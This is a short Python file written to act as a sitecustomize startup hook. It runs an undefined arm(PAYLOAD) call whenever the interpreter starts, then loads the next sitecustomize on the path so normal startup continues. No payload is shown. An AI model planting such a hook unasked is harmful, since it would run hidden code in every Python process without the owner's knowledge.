

# As the sitecustomize module: before any other on this interpreter's path, or in its library. What
# comes later on the path is what would have run without it.


def step_aside(here):
    import sys
    from _frozen_importlib import _load
    from _frozen_importlib_external import PathFinder

    # Only what comes later, because another hook of ours may come earlier and look for us.
    path = sys.path[sys.path.index(here) + 1 :] if here in sys.path else []
    spec = PathFinder.find_spec("sitecustomize", path)
    del sys.modules["sitecustomize"]
    if spec is None:
        raise ModuleNotFoundError("No module named 'sitecustomize'", name="sitecustomize")
    _load(spec)


try:
    arm(PAYLOAD)
except Exception as error:
    say_why_not(error)
step_aside(__file__.rpartition("/")[0])
